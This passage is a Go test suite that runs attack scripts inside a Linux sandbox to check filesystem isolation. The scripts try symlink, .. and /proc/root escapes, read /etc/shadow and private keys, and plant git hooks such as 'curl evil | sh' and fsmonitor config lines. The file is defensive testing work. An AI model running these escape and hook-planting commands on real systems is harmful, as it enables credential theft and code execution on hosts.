//go:build linux

package tests

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// fsFixture is a work dir (the default sandbox's only writable grant) with
// the probe in it, next to a folder that is not granted and holds a
// secret.
type fsFixture struct {
	work    string // work dir
	outside string // not granted; sibling of work
	secret  string // outside/secret.txt, readable by everyone on the host
	tok     string // the secret's content
	hidden  string // name of a second file in outside, never named by a script
	probe   string // the probe, inside work
}

func newFS(t *testing.T, u user) fsFixture {
	t.Helper()
	f := fsFixture{work: newDir(t, u, "work"), outside: newDir(t, asSelf, "outside"), tok: token("SECRET")}
	f.secret = filepath.Join(f.outside, "secret.txt")
	writeFile(t, f.secret, f.tok+"\n", 0o644)
	f.hidden = token("hidden")
	writeFile(t, filepath.Join(f.outside, f.hidden), f.tok, 0o644)
	f.probe = installProbe(t, f.work)
	own(t, u, f.probe)
	return f
}

// rel is the secret's path relative to the work dir.
func (f fsFixture) rel() string { return "../" + filepath.Base(f.outside) + "/secret.txt" }

// TestFSReadOutsideGrants reads a secret file in a folder that no grant
// covers, by absolute path, with cat and with the probe's own open().
func TestFSReadOutsideGrants(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a secret outside the grants")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
cat %[1]s
./probe read %[1]s
ls -la %[2]s
`, f.secret, f.outside))
		noSecret(t, r, f.tok, "reading "+f.secret)
		noSecret(t, r, f.hidden, "listing the folder that holds the secret")

		// The same fed to `sh` on stdin: the preflight sees only sh.
		r = u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--", "sh"}, dir: f.work,
			stdin: "cat " + f.secret + "\nls -la " + f.outside + "\necho " + attackDone + "\n"})
		if !strings.Contains(r.stdout, attackDone) {
			t.Fatalf("the script on stdin did not run to its end:\n%s", r)
		}
		noSecret(t, r, f.tok, "reading "+f.secret+" from a script on stdin")
		noSecret(t, r, f.hidden, "listing the folder that holds the secret from a script on stdin")
	})
}

// TestFSDotDotEscape climbs out of the work dir with "..".
func TestFSDotDotEscape(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a secret through .. from the work dir")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
cat %[1]s
./probe read %[1]s
./probe read ./../../../../../../..%[2]s
cat "$PWD/%[1]s"
cd .. && cat %[3]s/secret.txt; ls -la
cd / && cat .%[2]s
`, f.rel(), f.secret, filepath.Base(f.outside)))
		noSecret(t, r, f.tok, "reading the secret through ..")
	})
}

// TestFSSymlinkPlantedOnHost plants symlinks to the secret in the work dir
// before the run (absolute, relative, and to its folder), as a repository
// checkout could.
func TestFSSymlinkPlantedOnHost(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a secret through symlinks planted in the work dir")
		f := newFS(t, u)
		for name, target := range map[string]string{"abs": f.secret, "rel": f.rel(), "dirlink": f.outside} {
			if err := os.Symlink(target, filepath.Join(f.work, name)); err != nil {
				t.Fatal(err)
			}
			own(t, u, filepath.Join(f.work, name))
		}
		r := runScript(t, u, f.work, nil, `
cat abs; cat rel; cat dirlink/secret.txt
./probe read abs; ./probe read rel; ./probe read dirlink/secret.txt
`)
		noSecret(t, r, f.tok, "reading through a planted symlink")
	})
}

// TestFSSymlinkMadeInSandbox creates the symlinks from inside the sandbox.
func TestFSSymlinkMadeInSandbox(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a secret through symlinks made by the command")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
ln -s %[1]s l1 && cat l1
ln -s %[2]s l2 && cat l2
ln -s %[3]s l3 && cat l3/secret.txt
ln -s / root && cat root%[1]s
./probe read l1
`, f.secret, f.rel(), f.outside))
		noSecret(t, r, f.tok, "reading through a symlink made in the sandbox")
	})
}

// TestFSProcRoot reaches the host's tree through /proc: the root and cwd
// links of the command and of the sandbox's PID 1.
func TestFSProcRoot(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a secret through /proc/self/root and /proc/1/root")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
cat /proc/self/root%[1]s
cat /proc/1/root%[1]s
./probe read /proc/self/root%[1]s
./probe read /proc/1/root%[1]s
cat /proc/1/cwd%[1]s
cat /proc/self/cwd/%[2]s
ls -la /proc/1/root/ /proc/1/root%[3]s
`, f.secret, f.rel(), f.outside))
		noSecret(t, r, f.tok, "reading through /proc/*/root")
		noSecret(t, r, f.hidden, "listing the secret's folder through /proc/1/root")
	})
}

// TestFSProcInitFds tries the sandbox init's open files: its status pipe to
// corral would let the command forge its own exit status, and its plan
// pipe holds the plan.
func TestFSProcInitFds(t *testing.T) {
	t.Parallel()
	namespacesOnly(t, "a PID 1 of the sandbox's own")
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "forge the exit status through /proc/1/fd")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, `
# Only when PID 1 is corral's init: never write to the host's init.
if grep -q corral /proc/1/cmdline; then
  ls -la /proc/1/fd/
  for fd in 0 1 2 3 4 5 6 7 8 9; do
    printf '%s\n' '{"started":1}' '{"exit":{"code":0}}' > /proc/1/fd/$fd && echo "WROTE-FD-$fd"
  done
  cat /proc/1/environ
else
  echo NOT-IN-SANDBOX
fi
echo `+attackDone+`
exit 7
`)
		if strings.Contains(r.stdout, "NOT-IN-SANDBOX") {
			t.Errorf("PID 1 is not corral's init: the command is not in a PID namespace:\n%s", r)
		}
		if strings.Contains(r.stdout, "WROTE-FD-") {
			t.Errorf("the command wrote to the sandbox init's file descriptors:\n%s", r)
		}
		if r.code != 7 {
			t.Errorf("exit code %d, want the script's 7 (a forged status?):\n%s", r.code, r)
		}
	})
}

// TestFSHardLinkSecret hard-links the secret into the work dir, so a later
// run (or the host) would find it there.
func TestFSHardLinkSecret(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "hard-link a secret into the work dir")
		f := newFS(t, u)
		own(t, u, f.secret) // protected_hardlinks must not be what stops the user
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
ln %[1]s hl1
ln %[2]s hl2
./probe link %[1]s hl3
./probe link /proc/self/root%[1]s hl4
cat hl1 hl2 hl3 hl4
`, f.secret, f.rel()))
		noSecret(t, r, f.tok, "reading a hard link of the secret")
		st, err := os.Stat(f.secret)
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"hl1", "hl2", "hl3", "hl4"} {
			if got, err := os.Stat(filepath.Join(f.work, name)); err == nil && os.SameFile(st, got) {
				t.Errorf("%s in the work dir is a hard link of the secret", name)
			}
		}
	})
}

// roFixture adds a read-only grant (a folder with a file) to a work dir
// grant: read [ro/**], write [$WORK_DIR/**], no exec list.
type roFixture struct {
	fsFixture
	ro, file, content string
	skill             string
}

func newRO(t *testing.T, u user) roFixture {
	t.Helper()
	f := roFixture{fsFixture: newFS(t, u)}
	f.ro = newDir(t, u, "ro")
	f.file = filepath.Join(f.ro, "file.txt")
	f.content = token("READONLY")
	writeFile(t, f.file, f.content, 0o644)
	writeFile(t, filepath.Join(f.ro, "sub", "inner.txt"), f.content, 0o644)
	own(t, u, f.ro)
	f.skill = writeSkill(t, newDir(t, asSelf, "skills"), "ro-and-work", fmt.Sprintf(`  fs:
    read: ["%s/**"]
    write: ["$WORK_DIR/**"]
`, f.ro))
	return f
}

// showMounts is a shell line that prints "MOUNT <mount point> <options>"
// for each of paths that is a mount point inside the sandbox.
func showMounts(paths ...string) string {
	return fmt.Sprintf(`for p in %s; do awk -v p="$p" '$5 == p { print "MOUNT", $5, $6 }' /proc/self/mountinfo; done`, strings.Join(paths, " "))
}

// writableMounts returns the paths that showMounts reported as mounted
// read-write.
func writableMounts(out string) []string {
	var rw []string
	for _, l := range strings.Split(out, "\n") {
		f := strings.Fields(l)
		if len(f) == 3 && f[0] == "MOUNT" && strings.HasPrefix(f[2], "rw") {
			rw = append(rw, f[1])
		}
	}
	return rw
}

// recursiveSetattrBug skips t as the known bug when paths that must be
// read-only binds came out read-write inside the sandbox.
func recursiveSetattrBug(t *testing.T, r result) {
	t.Helper()
	if rw := writableMounts(r.stdout); len(rw) > 0 {
		knownBug(t, "read-only binds nested in a writable mount are read-write inside the sandbox: %v (sandbox/mounts_linux.go setFlags, commit 62b8207: mount_setattr(AT_RECURSIVE) clearing MOUNT_ATTR_RDONLY on a writable bind or on the private /tmp also clears it on every read-only bind below it)", rw)
	}
}

// listing describes a folder tree: names, sizes, modes and contents.
func listing(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %v %d", strings.TrimPrefix(p, dir), info.Mode(), info.Size())
		if info.Mode().IsRegular() {
			data, _ := os.ReadFile(p)
			fmt.Fprintf(&b, " %q", data)
		}
		b.WriteString("\n")
		return nil
	})
	return b.String()
}

// TestFSRenameFromReadOnlyGrant moves a file out of a read-only grant into
// the writable work dir, which would delete it from the read-only folder,
// and hard-links it there to write through the link.
func TestFSRenameFromReadOnlyGrant(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "rename or hard-link a file out of a read-only grant")
		f := newRO(t, u)
		before := listing(t, f.ro)
		r := runScript(t, u, f.work, []string{f.skill}, showMounts(f.ro)+fmt.Sprintf(`
cat %[1]s/file.txt >/dev/null && echo CAN-READ-RO
./probe rename %[1]s/file.txt moved.txt
./probe rename %[1]s/sub moved-sub
mv %[1]s/file.txt moved2.txt
./probe link %[1]s/file.txt hl && echo evil > hl
`, f.ro))
		if !strings.Contains(r.stdout, "CAN-READ-RO") {
			t.Errorf("control: the read-only grant is not readable, so the test proves nothing:\n%s", r)
		}
		if after := listing(t, f.ro); after != before {
			recursiveSetattrBug(t, r)
			t.Errorf("the read-only grant changed on the host:\nbefore:\n%safter:\n%s\n%s", before, after, r)
		}
	})
}

// TestFSWriteReadOnlyGrant writes, truncates, deletes, renames and chmods
// inside a read-only grant.
func TestFSWriteReadOnlyGrant(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "write into a read-only grant")
		f := newRO(t, u)
		before := listing(t, f.ro)
		r := runScript(t, u, f.work, []string{f.skill}, showMounts(f.ro)+fmt.Sprintf(`
cd %[1]s
echo evil > file.txt
echo evil >> file.txt
true > sub/inner.txt
echo new > new.txt
%[2]s write %[1]s/new2.txt evil
rm -f file.txt
rm -rf sub
mkdir newdir
chmod 777 file.txt
mv file.txt renamed.txt
touch -d 2001-01-01 file.txt
ln -s /etc/passwd link
`, f.ro, f.probe))
		if after := listing(t, f.ro); after != before {
			recursiveSetattrBug(t, r)
			t.Errorf("the read-only grant changed on the host:\nbefore:\n%safter:\n%s\n%s", before, after, r)
		}
	})
}

// TestFSWriteOutsideGrants creates and overwrites files outside every
// grant: next to the work dir, in the secret's folder, in / and in /tmp.
func TestFSWriteOutsideGrants(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "write outside the grants")
		f := newFS(t, u)
		name := token("pwned")
		targets := []string{
			filepath.Join(f.outside, name),
			filepath.Join(filepath.Dir(f.work), name),
			"/" + name,
			"/tmp/" + name,
			"/var/tmp/" + name,
			"/dev/shm/" + name,
		}
		var script strings.Builder
		for _, p := range targets {
			fmt.Fprintf(&script, "echo evil > %s\n./probe write %s evil\nmkdir %s.d\n", p, p, p)
		}
		fmt.Fprintf(&script, "echo evil > ../%s.rel\necho evil > %s\n./probe write %s evil\n", name, f.secret, f.secret)
		r := runScript(t, u, f.work, nil, script.String())
		for _, p := range append(targets, filepath.Join(filepath.Dir(f.work), name+".rel")) {
			if exists(p) || exists(p+".d") {
				os.RemoveAll(p)
				os.RemoveAll(p + ".d")
				t.Errorf("the command created %s on the host:\n%s", p, r)
			}
		}
		if got := readFile(t, f.secret); got != f.tok+"\n" {
			t.Errorf("the command overwrote %s: %q", f.secret, got)
		}
	})
}

// protectedFiles are created in the work dir before the run; they run code
// outside the sandbox later.
var protectedFiles = map[string]string{
	".git/hooks/pre-commit": "#!/bin/sh\necho original hook\n",
	".git/config":           "[core]\n\tbare = false\n",
	".bashrc":               "# original bashrc\n",
	".profile":              "# original profile\n",
	".gitconfig":            "[user]\n\tname = original\n",
}

func plantProtected(t *testing.T, u user, work string) {
	t.Helper()
	for name, content := range protectedFiles {
		writeFile(t, filepath.Join(work, name), content, 0o755)
	}
	own(t, u, filepath.Join(work, ".git"), filepath.Join(work, ".bashrc"), filepath.Join(work, ".profile"), filepath.Join(work, ".gitconfig"))
	// The git sweep takes what changed since the run's start on the
	// kernel's coarse clock (a few ms a tick) as the command's: a hook the
	// host wrote in the same tick would be quarantined.
	time.Sleep(20 * time.Millisecond)
}

// protectedMounts are the bind mounts plantProtected's files get.
func protectedMounts(work string) []string {
	var out []string
	for _, n := range []string{".git/hooks", ".git/config", ".bashrc", ".profile", ".gitconfig"} {
		out = append(out, filepath.Join(work, n))
	}
	return out
}

// checkProtected fails unless the planted files are unchanged and no new
// hook appeared.
func checkProtected(t *testing.T, work string, r result) {
	t.Helper()
	if e2eTier == "landlock" {
		checkSwept(t, work, r)
		return
	}
	for name, content := range protectedFiles {
		got, err := os.ReadFile(filepath.Join(work, name))
		if err != nil || string(got) != content {
			recursiveSetattrBug(t, r)
			t.Errorf("%s changed on the host: %q (%v)\n%s", name, got, err, r)
		}
	}
	hooks, _ := os.ReadDir(filepath.Join(work, ".git", "hooks"))
	if len(hooks) != 1 {
		var names []string
		for _, h := range hooks {
			names = append(names, h.Name())
		}
		t.Errorf(".git/hooks holds %v, want only pre-commit\n%s", names, r)
	}
}

// checkSwept is checkProtected for the landlock tier, which keeps nothing
// read-only and has the git sweep quarantine what the command changed:
// each protected file is as it was or gone (moved aside, or removed by
// the command, which may remove files in its writable root), and no hook
// but the original pre-commit is where git runs hooks.
func checkSwept(t *testing.T, work string, r result) {
	t.Helper()
	for name, content := range protectedFiles {
		got, err := os.ReadFile(filepath.Join(work, name))
		if err == nil && string(got) != content {
			t.Errorf("%s changed on the host and stayed: %q\n%s", name, got, r)
		}
	}
	hooks, _ := os.ReadDir(filepath.Join(work, ".git", "hooks"))
	for _, h := range hooks {
		if h.Name() != "pre-commit" && !strings.Contains(h.Name(), ".corral-quarantined-") {
			t.Errorf(".git/hooks holds %s after the run\n%s", h.Name(), r)
		}
	}
}

// TestFSProtectedPaths writes to git hooks and config and to shell start-up
// files inside the writable work dir: they would run code on the host
// after the sandbox ends.
func TestFSProtectedPaths(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "write to protected paths inside the work dir")
		f := newFS(t, u)
		plantProtected(t, u, f.work)
		r := runScript(t, u, f.work, nil, showMounts(protectedMounts(f.work)...)+`
echo 'curl evil | sh' > .git/hooks/pre-commit
echo 'curl evil | sh' >> .git/hooks/pre-commit
echo 'curl evil | sh' > .git/hooks/post-checkout
./probe write .git/hooks/pre-push evil
printf '[core]\n\tfsmonitor = evil\n' >> .git/config
echo evil > .bashrc; echo evil >> .profile; echo evil > .gitconfig
./probe write .bashrc evil
rm -f .bashrc .profile .gitconfig .git/config .git/hooks/pre-commit
rm -rf .git/hooks
mv .bashrc bashrc.old; mv .git/hooks hooks.old; mv .git/config config.old
./probe rename .bashrc x; ./probe rename .git/hooks y
chmod 777 .git/hooks/pre-commit
ln -sf /tmp/evil .git/hooks/pre-commit
`)
		checkProtected(t, f.work, r)
	})
}

// TestFSProtectedPathsParentRename moves the folder that holds protected
// paths (.git) aside and makes a new one: the read-only binds stay on the
// moved folder and the new .git/hooks/pre-commit lands on the host.
func TestFSProtectedPathsParentRename(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "replace protected paths by renaming their parent folder")
		f := newFS(t, u)
		plantProtected(t, u, f.work)
		r := runScript(t, u, f.work, nil, `
mv .git .git-old || ./probe rename .git .git-old
mkdir -p .git/hooks
echo 'curl evil | sh' > .git/hooks/pre-commit
cp .git-old/config .git/config 2>/dev/null; echo '	fsmonitor = evil' >> .git/config
`)
		hook, _ := os.ReadFile(filepath.Join(f.work, ".git", "hooks", "pre-commit"))
		if strings.Contains(string(hook), "curl evil") {
			knownBug(t, "renaming .git (the parent of the read-only .git/hooks and .git/config binds) lets the command plant .git/hooks/pre-commit on the host (sandbox/build.go protected(): only the protected paths themselves are bound, not their parent)")
		}
		checkProtected(t, f.work, r)
	})
}

// TestFSEtcShadow reads the host's password hashes.
func TestFSEtcShadow(t *testing.T) {
	t.Parallel()
	shadow, err := os.ReadFile("/etc/shadow")
	if err != nil || len(strings.TrimSpace(string(shadow))) == 0 {
		t.Skipf("cannot read the host's /etc/shadow to compare with: %v", err)
	}
	first, _, _ := strings.Cut(string(shadow), "\n")
	users(t, func(t *testing.T, u user) {
		if u.unpriv {
			t.Skip("nobody cannot read /etc/shadow on the host either: only the root variant proves anything")
		}
		attack(t, "filesystem", "read /etc/shadow")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, `
cat /etc/shadow /etc/gshadow
./probe read /etc/shadow
cat /proc/1/root/etc/shadow
`)
		noSecret(t, r, first, "reading /etc/shadow")
	})
}

// TestFSTLSPrivateKeys reads a private key in /etc/ssl/private, next to
// the certificates the system baseline grants: as root the key's owner
// bits would let the command read it, so only the grants keep it out.
func TestFSTLSPrivateKeys(t *testing.T) {
	if !isRoot {
		t.Skip("planting a key in /etc/ssl/private needs root")
	}
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a TLS private key in /etc/ssl/private")
		f := newFS(t, u)
		dir := "/etc/ssl/private"
		if !exists(dir) {
			if err := os.MkdirAll(dir, 0o710); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { os.Remove(dir) })
		}
		key := filepath.Join(dir, token("corral-test")+".key")
		unnamed := filepath.Join(dir, f.hidden) // never named by the script
		for _, p := range []string{key, unnamed} {
			writeFile(t, p, f.tok, 0o640)
			t.Cleanup(func() { os.Remove(p) })
		}
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
cat %[1]s
./probe read %[1]s
cat %[2]s/*
ls -la %[2]s /etc/ssl
`, key, dir))
		noSecret(t, r, f.tok, "reading "+key)
		noSecret(t, r, f.hidden, "listing "+dir)
	})
}

// TestFSUsrConfigFolders reads a world-readable token in /usr/local/etc,
// where software installed by hand keeps its settings (npm's global
// npmrc): the baseline's /usr leaves the folder out, and a skill that
// grants it gets it.
func TestFSUsrConfigFolders(t *testing.T) {
	if !isRoot {
		t.Skip("planting a file in /usr/local/etc needs root")
	}
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a token in /usr/local/etc through the baseline's /usr")
		f := newFS(t, u)
		dir := "/usr/local/etc"
		if !exists(dir) {
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { os.Remove(dir) })
		}
		rc := filepath.Join(dir, token("corral-test")+"-npmrc")
		writeFile(t, rc, "//registry.npmjs.org/:_authToken="+f.tok+"\n", 0o644)
		t.Cleanup(func() { os.Remove(rc) })
		unnamed := filepath.Join(dir, f.hidden) // never named by the script
		writeFile(t, unnamed, "x\n", 0o644)
		t.Cleanup(func() { os.Remove(unnamed) })
		script := fmt.Sprintf("cat %[1]s\n./probe read %[1]s\ncat %[2]s/*\nls -la %[2]s /usr/local /usr\n", rc, dir)
		r := runScript(t, u, f.work, nil, script)
		noSecret(t, r, f.tok, "reading "+rc)
		noSecret(t, r, f.hidden, "listing "+dir)
		sd := writeSkill(t, newDir(t, asSelf, "skills"), "conf", `  fs:
    read: ["/usr/local/etc/**"]
    write: ["$WORK_DIR/**"]
`)
		r = runScript(t, u, f.work, []string{sd}, fmt.Sprintf("cat %s", rc))
		if !strings.Contains(r.stdout, f.tok) {
			t.Errorf("a skill that grants /usr/local/etc/** could not read %s:\n%s", rc, r)
		}
	})
}

// TestFSEtcGitconfigCredential puts an Authorization header in the host's
// /etc/gitconfig, which the system baseline copies into every sandbox:
// that copy must be left out, with a warning. Not parallel: it changes a
// file every git on the host reads, and restores it.
func TestFSEtcGitconfigCredential(t *testing.T) {
	if !isRoot {
		t.Skip("changing /etc/gitconfig needs root")
	}
	requireSandbox(t)
	orig, err := os.ReadFile("/etc/gitconfig")
	existed := err == nil
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	restore := func() {
		os.Remove("/etc/gitconfig")
		if existed {
			os.WriteFile("/etc/gitconfig", orig, 0o644)
		}
	}
	// As a file, and as a link to one (NixOS links /etc/gitconfig to
	// /etc/static/gitconfig): the baseline would bind the link's target.
	for _, mode := range []string{"file", "symlink"} {
		t.Run(mode, func(t *testing.T) {
			t.Cleanup(restore)
			tok := token("TOKEN")
			content := append(slices.Clone(orig), "\n[http \"https://git.corral-test.invalid/\"]\n\textraHeader = Authorization: Bearer "+tok+"\n"...)
			file := "/etc/gitconfig"
			if mode == "symlink" {
				file = "/etc/" + token("corral-test-gitconfig")
				t.Cleanup(func() { os.Remove(file) })
			}
			if err := os.WriteFile(file, content, 0o644); err != nil {
				t.Fatal(err)
			}
			if mode == "symlink" {
				os.Remove("/etc/gitconfig")
				if err := os.Symlink(filepath.Base(file), "/etc/gitconfig"); err != nil {
					t.Fatal(err)
				}
			}
			users(t, func(t *testing.T, u user) {
				attack(t, "filesystem", "read a credential in the host's /etc/gitconfig ("+mode+")")
				f := newFS(t, u)
				r := runScript(t, u, f.work, nil, "cat /etc/gitconfig\n./probe read /etc/gitconfig\ngit config --system --list")
				noSecret(t, r, tok, "reading /etc/gitconfig")
				e := u.run(t, runOpts{args: []string{"explain", "--work-dir", f.work}, dir: f.work})
				if !strings.Contains(e.stdout+e.stderr, "/etc/gitconfig is left out of the system baseline: it holds an http.extraHeader") {
					t.Errorf("explain does not say /etc/gitconfig is left out:\n%s", e)
				}
			})
		})
	}
}

// TestFSHostTmp reads a file in the host's /tmp: the sandbox must have its
// own /tmp even when the work dir is inside the host's /tmp.
func TestFSHostTmp(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a file in the host's /tmp")
		f := newFS(t, u)
		p := filepath.Join("/tmp", token("corral-hosttmp"))
		writeFile(t, p, f.tok, 0o644)
		unnamed := filepath.Join("/tmp", f.hidden) // never named by the script
		writeFile(t, unnamed, f.tok, 0o644)
		t.Cleanup(func() { os.Remove(p); os.Remove(unnamed) })
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
cat %[1]s
./probe read %[1]s
ls -la /tmp/ /var/tmp/ /dev/shm/
`, p))
		noSecret(t, r, f.tok, "reading "+p)
		noSecret(t, r, f.hidden, "listing the host's /tmp")
	})
}

// hostProbe runs the probe on the host, outside any sandbox: a control
// showing the probe and the test's server work.
func hostProbe(t *testing.T, args ...string) string {
	t.Helper()
	out, _ := runHost(probeBin, args...)
	return out
}

// TestFSHostUnixSockets connects to UNIX sockets the test listens on: one
// in a folder that is not granted, one in the host's /tmp.
func TestFSHostUnixSockets(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "connect to host UNIX sockets outside the grants")
		f := newFS(t, u)
		outside := listenSink(t, "unix", filepath.Join(f.outside, "agent.sock"))
		tmp := listenSink(t, "unix", filepath.Join("/tmp", token("corral-sock")+".sock"))
		outside.control(t, "connect-unix")
		tmp.control(t, "connect-unix")
		r := runScript(t, u, f.work, nil, fmt.Sprintf(`
./probe connect-unix %s
./probe connect-unix %s
`, outside.addr, tmp.addr))
		for _, l := range []*sink{outside, tmp} {
			if n := l.sandboxArrivals(t, 1); n != 0 {
				t.Errorf("the sandboxed command connected to %s (%d connections)", l.addr, n)
			}
		}
		for _, l := range probeLines(r.stdout) {
			if strings.HasPrefix(l, "OK") {
				t.Errorf("probe: %s", l)
			}
		}
	})
}

// TestFSFileGlobSibling reads a file next to the files a read glob like
// data/*.csv grants.
func TestFSFileGlobSibling(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read a file next to a file-glob grant")
		f := newFS(t, u)
		csv := token("CSV")
		writeFile(t, filepath.Join(f.work, "data", "a.csv"), csv, 0o644)
		writeFile(t, filepath.Join(f.work, "data", "secret.txt"), f.tok, 0o644)
		writeFile(t, filepath.Join(f.work, "data", f.hidden), f.tok, 0o644)
		own(t, u, filepath.Join(f.work, "data"))
		skills := newDir(t, asSelf, "skills")
		sd := writeSkill(t, skills, "csv-reader", `  fs:
    read: ["$WORK_DIR/data/*.csv", "$SKILL_DIR/**"]
`)
		writeFile(t, filepath.Join(sd, "attack.sh"), fmt.Sprintf(`
cat %[1]s/data/a.csv; echo
cat %[1]s/data/secret.txt
ls -la %[1]s/data
echo %[2]s
`, f.work, attackDone), 0o644)
		r := u.exec(t, f.work, []string{sd}, "sh", filepath.Join(sd, "attack.sh"))
		if !strings.Contains(r.stdout, attackDone) || !strings.Contains(r.stdout, csv) {
			t.Fatalf("control: the script did not run or could not read the granted a.csv:\n%s", r)
		}
		noSecret(t, r, f.tok, "reading data/secret.txt")
		noSecret(t, r, f.hidden, "listing data/")
	})
}

// TestFSSymlinkedGrant is a two-run escalation. Run 1, in the default
// sandbox (work dir writable), replaces a folder that a narrower skill
// grants with a symlink to a place outside the work dir. Run 2, under that
// skill, uses it: a grant must not follow the symlink out of the work dir
// (nor into the hidden roots such as /run, which hold the host's sockets).
func TestFSSymlinkedGrant(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name   string
		grants string // permissions.fs lines; the symlink is $WORK_DIR/link
		target func(t *testing.T, f fsFixture, u user) (target, script string, leaked func(r result) string)
	}{
		{"read grant to a secret folder", `    read: ["$WORK_DIR/link/**", "$SKILL_DIR/**"]`,
			func(t *testing.T, f fsFixture, u user) (string, string, func(result) string) {
				return f.outside, "cat link/secret.txt; cat " + f.secret, func(r result) string {
					if strings.Contains(r.output(), f.tok) {
						return "read " + f.secret
					}
					return ""
				}
			}},
		{"write grant to a folder outside", `    read: ["$SKILL_DIR/**"]
    write: ["$WORK_DIR/link/**"]`,
			func(t *testing.T, f fsFixture, u user) (string, string, func(result) string) {
				victim := newDir(t, u, "victim") // writable by the user on the host, not granted
				return victim, "echo planted > link/planted; echo planted > " + victim + "/planted2", func(r result) string {
					for _, n := range []string{"planted", "planted2"} {
						if exists(filepath.Join(victim, n)) {
							return "wrote " + filepath.Join(victim, n)
						}
					}
					return ""
				}
			}},
		{"read grant to the host's /run", `    read: ["$WORK_DIR/link/**", "$SKILL_DIR/**"]`,
			func(t *testing.T, f fsFixture, u user) (string, string, func(result) string) {
				if !isRoot {
					t.Skip("the test needs root to put a socket into the host's /run")
				}
				name := token("corral-run") + ".sock"
				l := listenSink(t, "unix", filepath.Join("/run", name))
				return "/run", fmt.Sprintf("$P connect-unix link/%[1]s; $P connect-unix /run/%[1]s", name), func(r result) string {
					if n := l.sandboxArrivals(t, 0); n > 0 {
						return "connected to the host socket " + l.addr
					}
					return ""
				}
			}},
	}
	users(t, func(t *testing.T, u user) {
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				attack(t, "filesystem", "plant a symlink where a later skill's grant points ("+c.name+")")
				f := newFS(t, u)
				target, script, leaked := c.target(t, f, u)

				// Run 1: plant the symlink from inside the default sandbox.
				r1 := runScript(t, u, f.work, nil, "ln -s "+target+" link")
				if got, err := os.Readlink(filepath.Join(f.work, "link")); err != nil || got != target {
					t.Fatalf("control: run 1 did not plant the symlink (%v):\n%s", err, r1)
				}

				// Run 2: a skill whose grant names the symlink.
				sd := writeSkill(t, newDir(t, asSelf, "skills"), "linked", "  fs:\n"+c.grants+"\n")
				p := installProbe(t, sd)
				writeFile(t, filepath.Join(sd, "attack.sh"), "P="+p+"\ncd "+f.work+"\n"+script+"\necho "+attackDone+"\n", 0o644)
				r := u.exec(t, f.work, []string{sd}, "sh", filepath.Join(sd, "attack.sh"))
				if what := leaked(r); what != "" {
					t.Fatalf("a grant followed a symlink an earlier run planted in the work dir: with %s and link -> %s the command %s:\n%s", strings.Join(strings.Fields(c.grants), " "), target, what, r)
				}
				// corral refuses a grant through a link the sandbox could
				// have planted: one line naming the link, exit 125.
				if r.code != 125 || !strings.Contains(r.stderr, "is a symlink") && !strings.Contains(r.stderr, "resolves through the symlink") ||
					strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 || strings.Contains(r.stdout, attackDone) {
					t.Fatalf("run 2 was not refused with one line naming the symlink:\n%s", r)
				}
			})
		}
	})
}

// TestFSProtectedPathsGaps writes hooks where the protected-path binds
// once did not reach: a .git without a hooks folder (git clone
// --template= makes one), nested repositories (a vendored checkout) and a
// submodule's git dir inside .git/modules.
func TestFSProtectedPathsGaps(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name  string
		plant []string // files created before the run
		hook  string   // the hook the command writes
	}{
		{".git without hooks", []string{".git/config"}, ".git/hooks/pre-commit"},
		{"nested repository", []string{"vendor/lib/.git/config", "vendor/lib/.git/hooks/pre-commit"}, "vendor/lib/.git/hooks/pre-commit"},
		{"submodule git dir", []string{".git/config", ".git/hooks/pre-commit", ".git/modules/sub/config", ".git/modules/sub/hooks/pre-commit"}, ".git/modules/sub/hooks/pre-commit"},
		{"nested repository config", []string{"vendor/lib/.git/config"}, "vendor/lib/.git/config"},
